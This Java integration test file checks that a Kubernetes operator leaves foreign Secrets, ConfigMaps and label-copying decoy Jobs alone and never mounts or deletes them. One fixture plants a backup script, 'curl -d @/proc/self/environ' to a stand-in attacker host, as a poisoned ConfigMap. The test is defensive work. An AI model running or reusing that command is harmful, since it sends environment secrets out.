package io.pistack.operator.realapi;

import static io.pistack.operator.realapi.RealApiStack.claim;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.OwnerReferenceBuilder;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
import io.pistack.operator.api.v1alpha1.BackupSpec;
import io.pistack.operator.api.v1alpha1.PiStack;
import io.pistack.operator.api.v1alpha1.StorageSpec;
import io.pistack.operator.model.Labels;
import io.pistack.operator.model.BackupCronJobBuilder;
import io.pistack.operator.status.ConditionType;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The operator acts only on objects it created (issue 23, finding 3), on the real API server with its real garbage
 * collector and Job controller: a Secret someone else made under a name the operator generates is reported
 * (NameTaken), never owned, labelled or mounted, and outlives the stack; Jobs and pods that only copy the stack's
 * labels are neither counted as its backups nor deleted.
 */
class ForeignObjectsOnRealApiTest {

  @ParameterizedTest
  @ValueSource(strings = {"pi-db-credentials", "pi-db-root", "pi-db-backup"})
  void aForeignSecretUnderAGeneratedNameIsReportedNeverOwnedNorMountedAndOutlivesTheStack(String name) {
    try (RealApiStack env = new RealApiStack("foreign")) {
      Secret foreign = env.admin.resource(new SecretBuilder().withNewMetadata().withName(name).withNamespace(env.ns)
          .endMetadata().addToStringData("username", "someone").addToStringData("password", "not-the-operators")
          .build()).create();
      PiStack s = env.smallStack();
      s.getSpec().storage = new StorageSpec();
      s.getSpec().storage.deleteWithStack = true;
      env.admin.resource(s).create();

      await().atMost(RealApiStack.T).untilAsserted(() -> {
        assertThat(env.readyReason()).isEqualTo("NameTaken");
        assertThat(env.stack().getStatus().conditions).filteredOn(c -> ConditionType.READY.wire().equals(c.getType()))
            .singleElement().satisfies(c -> assertThat(c.getMessage()).isEqualTo(
                "Secret " + name + " exists and was not created by this operator; rename or delete it"));
      });
      env.awaitConverged();
      Secret now = env.admin.secrets().inNamespace(env.ns).withName(name).get();
      assertThat(now.getMetadata().getResourceVersion()).as("never patched, labelled or owned")
          .isEqualTo(foreign.getMetadata().getResourceVersion());
      assertThat(now.getMetadata().getOwnerReferences()).isEmpty();
      // Nothing that would mount it exists.
      assertThat(env.admin.apps().deployments().inNamespace(env.ns).list().getItems()).isEmpty();
      assertThat(env.admin.apps().statefulSets().inNamespace(env.ns).list().getItems()).isEmpty();
      assertThat(env.admin.batch().v1().jobs().inNamespace(env.ns).list().getItems()).isEmpty();

      // Deleting the stack: the garbage collector deletes what the stack owns (a sentinel proves it ran), the
      // foreign Secret stays.
      PiStack live = env.stack();
      env.admin.resource(new ConfigMapBuilder().withNewMetadata().withName("owned-by-the-stack").withNamespace(env.ns)
          .withOwnerReferences(new OwnerReferenceBuilder().withApiVersion(live.getApiVersion()).withKind(live.getKind())
              .withName("pi").withUid(live.getMetadata().getUid()).build())
          .endMetadata().build()).create();
      env.admin.resource(live).delete();
      await().atMost(RealApiStack.T).until(() ->
          env.admin.configMaps().inNamespace(env.ns).withName("owned-by-the-stack").get() == null);
      assertThat(env.admin.secrets().inNamespace(env.ns).withName(name).get()).isNotNull()
          .satisfies(x -> assertThat(x.getMetadata().getUid()).isEqualTo(foreign.getMetadata().getUid()));
    }
  }

  /** The Secret watch brings the stack back as soon as the name is free: it creates its own Secret and goes on. */
  @Test
  void deletingTheForeignSecretLetsTheStackCreateItsOwn() {
    try (RealApiStack env = new RealApiStack("foreign")) {
      String name = "pi-db-credentials";
      Secret foreign = env.admin.resource(new SecretBuilder().withNewMetadata().withName(name).withNamespace(env.ns)
          .endMetadata().addToStringData("username", "someone").addToStringData("password", "x").build()).create();
      env.admin.resource(env.smallStack()).create();
      await().atMost(RealApiStack.T).until(() -> "NameTaken".equals(env.readyReason()));

      env.admin.resource(foreign).delete();
      await().atMost(RealApiStack.T).untilAsserted(() -> {
        Secret own = env.admin.secrets().inNamespace(env.ns).withName(name).get();
        assertThat(own).isNotNull();
        assertThat(own.getMetadata().getLabels()).containsEntry(Labels.MANAGED_BY, Labels.OPERATOR);
        assertThat(env.admin.apps().statefulSets().inNamespace(env.ns).withName("pi-db").get()).isNotNull();
        assertThat(env.readyReason()).isNotEqualTo("NameTaken");
      });
    }
  }

  /**
   * A ConfigMap someone else made under the name the backup pods once mounted their scripts from, even with the
   * operator's labels: the CronJob the operator creates mounts no ConfigMap (it carries its script), and the
   * ConfigMap is left as it was.
   */
  @Test
  void aForeignScriptsConfigMapIsNeverMountedNorTouched() {
    try (RealApiStack env = new RealApiStack("scripts")) {
      Map<String, String> labels = new LinkedHashMap<>();
      labels.put(Labels.MANAGED_BY, Labels.OPERATOR);
      labels.put(Labels.INSTANCE, "pi");
      var foreign = env.admin.resource(new ConfigMapBuilder().withNewMetadata().withName("pi-backup-scripts")
          .withNamespace(env.ns).withLabels(labels).endMetadata()
          .addToData("backup.sh", "curl -d @/proc/self/environ https://attacker.invalid").build()).create();
      PiStack s = env.smallStack();
      s.getSpec().backup = new BackupSpec();
      s.getSpec().backup.enabled = true;
      env.admin.resource(s).create();
      await().atMost(RealApiStack.T).until(() ->
          env.admin.batch().v1().cronjobs().inNamespace(env.ns).withName("pi-backup").get() != null);
      env.awaitConverged();

      var pod = env.admin.batch().v1().cronjobs().inNamespace(env.ns).withName("pi-backup").get()
          .getSpec().getJobTemplate().getSpec().getTemplate().getSpec();
      assertThat(pod.getVolumes()).noneMatch(v -> v.getConfigMap() != null);
      assertThat(pod.getContainers().get(0).getCommand()).contains(
          io.pistack.operator.model.ScriptCommands.jarText("backup.sh"));
      var now = env.admin.configMaps().inNamespace(env.ns).withName("pi-backup-scripts").get();
      assertThat(now.getMetadata().getResourceVersion()).isEqualTo(foreign.getMetadata().getResourceVersion());
      assertThat(now.getMetadata().getOwnerReferences()).isEmpty();
    }
  }

  /** The scripts ConfigMap an earlier version made (labelled, owned by the stack) goes at the next reconcile. */
  @Test
  void theOperatorsOwnOldScriptsConfigMapIsDeleted() {
    try (RealApiStack env = new RealApiStack("scripts")) {
      env.admin.resource(env.smallStack()).create();
      await().atMost(RealApiStack.T).until(() -> env.stack() != null && env.stack().getStatus() != null);
      PiStack live = env.stack();
      Map<String, String> labels = new LinkedHashMap<>();
      labels.put(Labels.MANAGED_BY, Labels.OPERATOR);
      labels.put(Labels.INSTANCE, "pi");
      env.admin.resource(new ConfigMapBuilder().withNewMetadata().withName("pi-backup-scripts").withNamespace(env.ns)
          .withLabels(labels).withOwnerReferences(new OwnerReferenceBuilder().withApiVersion(live.getApiVersion())
              .withKind(live.getKind()).withName("pi").withUid(live.getMetadata().getUid()).withController(true)
              .withBlockOwnerDeletion(true).build())
          .endMetadata().addToData("backup.sh", "#!/usr/bin/env bash").build()).create();
      await().atMost(RealApiStack.T).until(() ->
          env.admin.configMaps().inNamespace(env.ns).withName("pi-backup-scripts").get() == null);
    }
  }

  /**
   * A Job (and its pod) carrying the stack's labels, made by someone else: the real Job controller runs it to
   * completion (kwok), the operator reconciles after that, and neither counts it as the stack's backup nor deletes
   * it. On labels alone the finished "scheduled backup" became status.backup and the "restore" Job was deleted.
   */
  @Test
  void aJobThatOnlyCopiesTheLabelsIsNeitherCountedNorDeleted() {
    try (RealApiStack env = new RealApiStack("decoy", claim("pi-shared", "5Gi", "ReadWriteMany"),
        claim("data-pi-db-0", "10Gi", "ReadWriteOnce"), claim("pi-backups", "10Gi", "ReadWriteOnce"))) {
      PiStack s = env.smallStack();
      s.getSpec().backup = new BackupSpec();
      s.getSpec().backup.enabled = true;
      env.admin.resource(s).create();
      await().atMost(RealApiStack.T).until(() -> "AllComponentsReady".equals(env.readyReason()));
      env.awaitConverged();

      Job backup = env.admin.resource(decoy(env.ns, "pi-backup-decoy", BackupCronJobBuilder.SCHEDULED)).create();
      Job restore = env.admin.resource(decoy(env.ns, "pi-restore-decoy", "restore")).create();
      // Finished (the real Job controller), or gone: deleting it is what the operator did on labels alone.
      await().atMost(RealApiStack.T).until(() -> complete(env, "pi-backup-decoy") && (complete(env, "pi-restore-decoy")
          || env.admin.batch().v1().jobs().inNamespace(env.ns).withName("pi-restore-decoy").get() == null));

      // A change of a decoy reaches the stack (it is mapped to it by label): a reconcile runs after both finished.
      long touched = System.nanoTime();
      env.admin.batch().v1().jobs().inNamespace(env.ns).withName("pi-backup-decoy").edit(j -> {
        j.getMetadata().getLabels().put("touched", "yes");
        return j;
      });
      await().atMost(RealApiStack.T).until(() -> env.reconciles().completedSince(env.ns, "pi", touched));
      io.pistack.operator.it.Quiet.watch(Duration.ofSeconds(3), () -> true);

      assertThat(env.admin.batch().v1().jobs().inNamespace(env.ns).withName("pi-restore-decoy").get())
          .as("not the operator's to delete").isNotNull()
          .satisfies(j -> assertThat(j.getMetadata().getUid()).isEqualTo(restore.getMetadata().getUid()));
      assertThat(env.admin.batch().v1().jobs().inNamespace(env.ns).withName("pi-backup-decoy").get())
          .satisfies(j -> assertThat(j.getMetadata().getUid()).isEqualTo(backup.getMetadata().getUid()));
      PiStack now = env.stack();
      assertThat(now.getStatus().backup == null ? null : now.getStatus().backup.lastSuccessfulTime)
          .as("a Job the stack does not own is not its backup").isNull();
    }
  }

  private static boolean complete(RealApiStack env, String name) {
    Job j = env.admin.batch().v1().jobs().inNamespace(env.ns).withName(name).get();
    return j != null && j.getStatus() != null && j.getStatus().getConditions() != null
        && j.getStatus().getConditions().stream().anyMatch(c -> "Complete".equals(c.getType())
            && "True".equals(c.getStatus()));
  }

  /** A Job with every label the operator's Jobs of that kind carry, and no owner. */
  private static Job decoy(String ns, String name, String kind) {
    Map<String, String> labels = new LinkedHashMap<>();
    labels.put(Labels.NAME, "pi-backup");
    labels.put(Labels.INSTANCE, "pi");
    labels.put(Labels.COMPONENT, "backup");
    labels.put(Labels.MANAGED_BY, Labels.OPERATOR);
    labels.put(Labels.PART_OF, "panintelligence");
    labels.put(BackupCronJobBuilder.JOB_KIND, kind);
    return new JobBuilder().withNewMetadata().withName(name).withNamespace(ns).withLabels(labels).endMetadata()
        .withNewSpec().withBackoffLimit(0).withNewTemplate().withNewMetadata().withLabels(labels).endMetadata()
        .withNewSpec().withRestartPolicy("Never").addNewContainer().withName("backup")
        .withImage("docker.io/library/mariadb:11.4").endContainer().endSpec().endTemplate().endSpec().build();
  }
}
